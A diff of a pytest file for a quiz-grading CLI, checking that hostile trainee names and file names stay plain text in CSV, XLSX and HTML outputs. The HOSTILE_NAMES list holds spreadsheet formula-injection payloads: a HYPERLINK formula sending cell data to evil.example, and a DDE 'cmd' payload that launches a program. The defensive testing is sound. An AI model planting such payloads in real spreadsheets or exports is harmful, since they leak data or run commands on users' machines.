@@ -23,8 +23,11 @@ from generator.results.result_files import scores_csv, scores_xlsx
 from generator.results.roster import read_roster
 from generator.results.tables import MAX_FIELD_CHARS, decode_text, read_table, read_tables
 
-from ..conftest import run_cli
 from .helpers import REPO, hand_rows, moodle_rows, quizzes, random_answers, write_csv, write_xlsx
+
+CLI_IN_PROCESS = True
+"""`cli` runs `playbook grade` and `report` through the CLI in this process: these tests are about
+what hostile input does to what they write and say."""
 
 HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1",
                  "＝1+1", "=cmd|' /C calc'!A0"]
@@ -62,7 +65,7 @@ def quiz_dir(tmp_path_factory) -> Path:
 
 
 @pytest.mark.slow
-def test_formulas_and_control_characters_from_input_stay_text(quiz_dir, tmp_path):
+def test_formulas_and_control_characters_from_input_stay_text(quiz_dir, tmp_path, cli):
     people = []
     for i, (t, label, answers) in enumerate(_people(len(HOSTILE_NAMES))):
         people.append((Trainee(HOSTILE_NAMES[i], f"=E{i}", "=1+1" if i % 2 else "@店", "-岗位"), label, answers))
@@ -73,7 +76,7 @@ def test_formulas_and_control_characters_from_input_stay_text(quiz_dir, tmp_path
     rows[-1][5 + choice] = "AB"  # two answers: the markup name gets a card in review.html
     table = write_csv(tmp_path / "=evil.csv", rows)
     out = tmp_path / "results"
-    r = run_cli("grade", str(table), "--quiz", str(quiz_dir), "--out", str(out), cwd=tmp_path)
+    r = cli("grade", str(table), "--quiz", str(quiz_dir), "--out", str(out), cwd=tmp_path)
     assert r.code == 0, r.err
     assert "Traceback" not in r.err and "\x1b" not in r.out + r.err and "\x07" not in r.out + r.err
     _markup_shown_as_text(out / "review.html")
@@ -91,8 +94,8 @@ def test_formulas_and_control_characters_from_input_stay_text(quiz_dir, tmp_path
     assert "控制\\x1b[31m字符\\x07" in names  # a control character, kept visible as an escape
 
     report_out = tmp_path / "report"
-    r = run_cli("report", str(out / "results.json"), "--out", str(report_out), "--content", str(REPO / "content"),
-                "--quizzes", str(REPO / "quizzes"), cwd=tmp_path)
+    r = cli("report", str(out / "results.json"), "--out", str(report_out), "--content", str(REPO / "content"),
+            "--quizzes", str(REPO / "quizzes"), cwd=tmp_path)
     assert r.code == 0, r.err
     _markup_shown_as_text(report_out / "report.html")
     _markup_shown_as_text(report_out / "trainees.html")
@@ -118,7 +121,7 @@ def test_cells_xlsx_forbids_are_escaped_and_formula_starts_stay_text(tmp_path):
     assert all(row[1] == "-1.5" for row in cells[1:])  # a number is no formula: left as it is
 
 
-def test_a_file_name_that_is_not_utf8_is_named_visibly(quiz_dir, tmp_path):
+def test_a_file_name_that_is_not_utf8_is_named_visibly(quiz_dir, tmp_path, cli):
     """成绩.csv saved by a Chinese Windows PC and unzipped here: its name is GBK bytes, not UTF-8. It is
     graded, and named as \\xNN in messages, results.json and the tables (it used to be an internal error)."""
     qs = quizzes()
@@ -128,7 +131,7 @@ def test_a_file_name_that_is_not_utf8_is_named_visibly(quiz_dir, tmp_path):
     name = os.fsdecode("成绩".encode("gbk") + b".csv")
     write_csv(tmp_path / name, rows)
     out = tmp_path / "results"
-    r = run_cli("grade", name, "--quiz", str(quiz_dir), "--out", str(out), cwd=tmp_path)
+    r = cli("grade", name, "--quiz", str(quiz_dir), "--out", str(out), cwd=tmp_path)
     assert r.code == 0 and "Traceback" not in r.err and "内部错误" not in r.err, r.err
     shown = ("成绩".encode("gbk") + b".csv").decode("utf-8", "backslashreplace")  # \\xb3ɼ\\xa8.csv
     assert shown.startswith("\\xb3")
@@ -249,7 +252,7 @@ def test_a_staff_id_column_formatted_000_reads_as_the_sheet_shows_it(tmp_path):
         ("T015", 2), ("T015", 3)]
 
 
-def test_spreadsheets_in_formats_not_read_are_named_with_the_fix(quiz_dir, tmp_path):
+def test_spreadsheets_in_formats_not_read_are_named_with_the_fix(quiz_dir, tmp_path, cli):
     """A WPS .et, an .ods or an old .xls (answers or roster) is refused as the spreadsheet it is, with
     how to save it, never taken for a scan ("no answer-sheet layouts") or read as CSV bytes."""
     rows = write_xlsx(tmp_path / "rows.xlsx", [["姓名", "工号"], ["张伟", "E001"]]).read_bytes()
@@ -258,8 +261,8 @@ def test_spreadsheets_in_formats_not_read_are_named_with_the_fix(quiz_dir, tmp_p
     (tmp_path / "名单.xls").write_bytes(rows)
     trainees, problems = read_roster(tmp_path / "名单.xls")
     assert trainees == [] and [p.code for p in problems] == ["T001"] and "Excel 97-2003" in problems[0].message
-    run = run_cli("grade", "--quiz", str(quiz_dir), *(str(tmp_path / f"成绩{s}") for s in (".et", ".ods", ".xls")),
-                  "--out", str(tmp_path / "out"))
+    run = cli("grade", "--quiz", str(quiz_dir), *(str(tmp_path / f"成绩{s}") for s in (".et", ".ods", ".xls")),
+              "--out", str(tmp_path / "out"))
     assert run.code == 1 and "Traceback" not in run.err and "G007" not in run.err
     assert [line.split(": ", 1)[0] for line in run.err.splitlines() if "error[" in line] == [
         f"{tmp_path / f'成绩{s}'}:1:1" for s in (".et", ".ods", ".xls")]
